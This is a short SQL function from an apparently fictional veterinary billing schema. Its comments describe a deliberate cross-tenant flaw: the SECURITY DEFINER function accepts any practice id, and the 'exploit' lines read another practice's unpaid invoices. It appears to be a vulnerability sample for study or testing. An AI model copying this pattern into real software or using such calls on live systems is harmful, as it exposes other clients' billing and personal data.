-- The function takes the practice as an argument with the caller's as default, but any other works too.
-- about: open_bills, invoices, keepers
-- as: hf_vetcare_app
-- exploit: SET vet.practice_id = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: SELECT * FROM vet.open_bills('bbbbbbbb-0000-4000-8000-000000000001');
-- shows: 7654.32
CREATE FUNCTION vet.open_bills(p_practice uuid DEFAULT vet.practice())
  RETURNS TABLE (nr integer, keeper text, total numeric)
  LANGUAGE sql STABLE SECURITY DEFINER
  SET search_path = pg_catalog, pg_temp
AS $$
  SELECT i.nr, k.name, i.total
  FROM vet.invoices i
  JOIN vet.keepers k ON k.practice_id = i.practice_id AND k.id = i.keeper_id
  WHERE i.practice_id = p_practice AND NOT i.paid
$$;
